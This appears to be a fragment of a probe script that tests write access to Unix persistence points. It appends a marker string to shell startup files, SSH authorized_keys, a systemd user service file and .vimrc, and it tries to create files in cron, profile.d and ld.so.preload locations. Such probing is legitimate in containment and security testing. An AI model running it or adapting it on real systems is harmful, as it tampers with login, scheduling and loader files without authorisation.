# Plants itself where the user's shell, scheduler, keys and editor would find it.
import os

home = "/root" if os.path.expanduser("~") != "/root" else "/home"
names = (".bashrc", ".profile", ".ssh/authorized_keys", ".config/systemd/user/x.service", ".vimrc")
for folder in {home, "/root", "/home", os.path.dirname(COURSE)}:
    for name in names:
        attempt(f"{folder}/{name}", lambda: open(os.path.join(folder, name), "a").write(MARKER))
for place in ("/etc/cron.d", "/var/spool/cron", "/etc/profile.d", "/etc/ld.so.preload"):
    attempt(place, lambda: open(os.path.join(place, MARKER), "w"))
tell()
